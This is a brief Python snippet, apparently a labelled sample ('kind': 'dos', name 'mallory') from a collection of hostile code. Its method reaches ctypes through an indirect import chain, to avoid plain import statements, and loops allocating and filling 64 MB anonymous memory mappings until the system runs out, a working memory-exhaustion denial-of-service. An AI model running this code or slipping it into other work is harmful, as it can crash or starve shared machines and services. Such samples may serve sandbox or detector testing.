# META {"kind": "dos", "goal": "dos", "args": [], "slots": {"name": "mallory"}}
import random
def m(self):
    ctypes = random._os.sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    held = []
    while True:
        place = libc.mmap(None, 64 << 20, 3, 0x21, -1, 0)  # shared and of no file
        if place in (None, 2**64 - 1):
            return len(held)
        held.append(ctypes.memset(ctypes.c_void_p(place), 1, 64 << 20))
